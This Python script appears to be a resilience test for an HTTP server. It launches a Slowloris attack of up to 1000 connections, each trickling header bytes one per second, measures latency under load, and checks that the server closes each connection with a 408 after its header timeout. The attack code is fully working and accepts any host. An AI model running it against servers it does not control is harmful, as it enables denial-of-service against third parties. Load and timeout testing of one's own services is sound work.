#!/usr/bin/env python3
"""Slowloris against a running server: N connections each trickle one header byte per
second; meanwhile a normal keep-alive client's GET latency is measured and compared with
the latency before the attack; finally every trickling connection must have been closed
by the server's header timeout (408, then close).

usage: slowloris.py HOST PORT [--connections 1000] [--requests 200] [--header-timeout 10]
Exit status 1 when latency during the attack exceeds 2x before + FLOOR_MS (p50 or p99),
or when a trickling connection is still open after the header timeout plus a margin.
"""
import argparse
import http.client
import os
import resource
import selectors
import socket
import statistics
import sys
import threading
import time

PATH = "/v1/casualties?city=kyiv&date=2025-10-10"


def raise_nofile(wanted):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = hard if hard == resource.RLIM_INFINITY else min(hard, max(soft, wanted))
    if soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def measure(host, port, n, spacing=0.0):
    """n sequential GETs on one keep-alive connection, `spacing` seconds apart (not timed)."""
    conn = http.client.HTTPConnection(host, port, timeout=10)
    samples = []
    for _ in range(n):
        if spacing:
            time.sleep(spacing)
        t = time.perf_counter()
        conn.request("GET", PATH)
        r = conn.getresponse()
        r.read()
        samples.append((time.perf_counter() - t) * 1000)
        if r.status != 200:
            raise SystemExit(f"slowloris: GET {PATH} answered {r.status}")
    conn.close()
    samples.sort()
    return samples[len(samples) // 2], samples[min(len(samples) - 1, int(len(samples) * 0.99))]


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--connections", type=int, default=1000)
    p.add_argument("--requests", type=int, default=200)
    p.add_argument("--header-timeout", type=float, default=10.0)
    p.add_argument("--spacing-ms", type=float, default=25.0,
                   help="pause between measured requests, so 'during' spans several trickle ticks")
    p.add_argument("--floor-ms", type=float, default=float(os.environ.get("SLOWLORIS_FLOOR_MS", "5")))
    a = p.parse_args()

    limit = raise_nofile(a.connections + 200)
    print(f"slowloris: RLIMIT_NOFILE {limit}")
    if limit < a.connections + 50:
        raise SystemExit(f"slowloris: cannot open {a.connections} sockets (RLIMIT_NOFILE {limit})")

    measure(a.host, a.port, 20)  # warm up
    spacing = a.spacing_ms / 1000
    before = measure(a.host, a.port, a.requests, spacing)
    print(f"slowloris: before: p50 {before[0]:.2f} ms, p99 {before[1]:.2f} ms "
          f"({a.requests} sequential keep-alive GETs {PATH}, {a.spacing_ms:.0f} ms apart)")

    # A head that never completes: one byte a second, each connection.
    head = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 200
    socks = []
    t0 = time.monotonic()
    for i in range(a.connections):
        s = socket.create_connection((a.host, a.port), timeout=5)
        s.setblocking(False)
        socks.append(s)
    opened = time.monotonic() - t0
    sel = selectors.DefaultSelector()
    state = {s.fileno(): {"sock": s, "sent": 0, "closed_at": None, "answer": b""} for s in socks}
    for s in socks:
        sel.register(s, selectors.EVENT_READ)
    first_byte = time.monotonic()
    stop = threading.Event()

    def trickle():
        tick = 0
        while not stop.is_set():
            for st in state.values():
                if st["closed_at"] is None and st["sent"] < len(head):
                    try:
                        st["sock"].send(head[st["sent"]:st["sent"] + 1])
                        st["sent"] += 1
                    except (BlockingIOError, InterruptedError):
                        pass
                    except OSError:
                        pass  # closed by the server: the reader notices
            tick += 1
            stop.wait(max(0.0, first_byte + tick - time.monotonic()))

    def read_until(deadline):
        while time.monotonic() < deadline and any(st["closed_at"] is None for st in state.values()):
            for key, _ in sel.select(timeout=0.2):
                st = state[key.fd]
                try:
                    chunk = st["sock"].recv(4096)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    chunk = b""
                if chunk:
                    st["answer"] += chunk
                else:
                    st["closed_at"] = time.monotonic()
                    sel.unregister(st["sock"])

    sender = threading.Thread(target=trickle, daemon=True)
    sender.start()
    print(f"slowloris: {a.connections} connections opened in {opened:.2f} s, trickling 1 byte/s each")
    time.sleep(1.5)
    t = time.monotonic()
    during = measure(a.host, a.port, a.requests, spacing)
    measured_at = (t - first_byte, time.monotonic() - first_byte)
    still_open = sum(1 for st in state.values() if st["closed_at"] is None)
    print(f"slowloris: during: p50 {during[0]:.2f} ms, p99 {during[1]:.2f} ms "
          f"(measured {measured_at[0]:.1f}..{measured_at[1]:.1f} s into the attack)")
    failures = []
    if measured_at[1] >= a.header_timeout:
        failures.append("the 'during' measurement outlasted the header timeout (machine too slow to judge)")
    for label, b, d in (("p50", before[0], during[0]), ("p99", before[1], during[1])):
        bound = 2 * b + a.floor_ms
        verdict = "ok" if d <= bound else "FAIL"
        print(f"slowloris: {label} during {d:.2f} ms <= 2 x {b:.2f} + {a.floor_ms:.0f} ms floor = {bound:.2f} ms: {verdict}")
        if d > bound:
            failures.append(f"{label} latency during the attack {d:.2f} ms > {bound:.2f} ms")

    margin = 5.0
    read_until(first_byte + a.header_timeout + margin)
    stop.set()
    sender.join(timeout=2)
    closed = [st for st in state.values() if st["closed_at"] is not None]
    got408 = sum(1 for st in closed if st["answer"].startswith(b"HTTP/1.1 408"))
    other = sum(1 for st in closed if st["answer"] and not st["answer"].startswith(b"HTTP/1.1 408"))
    silent = sum(1 for st in closed if not st["answer"])
    times = sorted(st["closed_at"] - first_byte for st in closed)
    print(f"slowloris: after {a.header_timeout:.0f} s header timeout + {margin:.0f} s margin: "
          f"{len(closed)}/{a.connections} closed by the server ({got408} with 408, {other} other answer, "
          f"{silent} without answer)" + (f", closed between {times[0]:.1f} and {times[-1]:.1f} s" if times else ""))
    if len(closed) != a.connections:
        failures.append(f"{a.connections - len(closed)} trickling connections still open")
    if got408 != a.connections:
        failures.append(f"{a.connections - got408} trickling connections did not get 408")
    if times and times[0] < a.header_timeout - 1.0:
        failures.append(f"a trickling connection was closed after {times[0]:.1f} s, before the header timeout")
    for st in state.values():
        st["sock"].close()
    if failures:
        for f in failures:
            print("slowloris: FAIL:", f)
        sys.exit(1)
    print("slowloris: PASS")


if __name__ == "__main__":
    main()
